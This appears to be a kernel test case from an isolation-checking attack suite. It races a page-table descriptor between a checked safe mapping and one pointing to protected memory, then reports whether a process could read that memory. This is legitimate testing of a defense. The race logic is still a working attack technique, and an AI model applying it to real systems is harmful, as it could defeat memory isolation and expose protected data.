// SPDX-License-Identifier: GPL-2.0-only
/*
 * Change a descriptor while it is being taken over, so that what is mapped
 * is not what was checked.
 */
#include <linux/gfp.h>
#include <linux/io.h>

#include <asm/pgtable.h>

#include "attack.h"

#define SECONDS		60
/* That are accepted; others say nothing, and there are many while the other CPU stands still */
#define FILLS		100000
#define OWN		0x646f6e6a6f6eULL

static u64 *flipping, good, bad;

static void flip(void)
{
	int i;

	for (i = 0; i < 1000; i++) {
		WRITE_ONCE(*flipping, good);
		WRITE_ONCE(*flipping, bad);
	}
}

static void source(void)
{
	unsigned long filled = 0, refused = 0, page = __get_free_page(GFP_KERNEL);
	bool found = false;
	struct hole hole;
	u64 word = 0;

	if (!page) {
		attack_untried("there is no memory");
		return;
	}
	if (!open_hole(&hole))
		goto free;
	*(u64 *)page = OWN;
	/* fork has what is writable read again, before the auditor looks */
	good = user_page(virt_to_phys((void *)page)) | PTE_RDONLY;
	bad = user_page(inner_memory()) | PTE_RDONLY;
	flipping = hole.descriptor;
	if (!begin_beside(flip, SECONDS))
		goto free;
	while ((filled < FILLS || !refused) && !found && is_beside()) {
		if (fill_hole_from(&hole, virt_to_phys(hole.descriptor)).status) {
			refused++;
			continue;
		}
		filled++;
		found = try_user_load(&hole, &word) && word != OWN;
	}
	end_beside();
	if (found)
		attack_succeeded("after %lu fills a process reads %#llx", filled, word);
	else if (!filled || !refused)
		attack_untried("%lu fills, %lu refused: nothing changed meanwhile",
			       filled, refused);
	else
		attack_stopped("all that was mapped was checked: %lu fills, %lu refused",
			       filled, refused);
free:
	free_page(page);
}

DONJON_ATTACK("change-descriptor-during-call", "source", source);
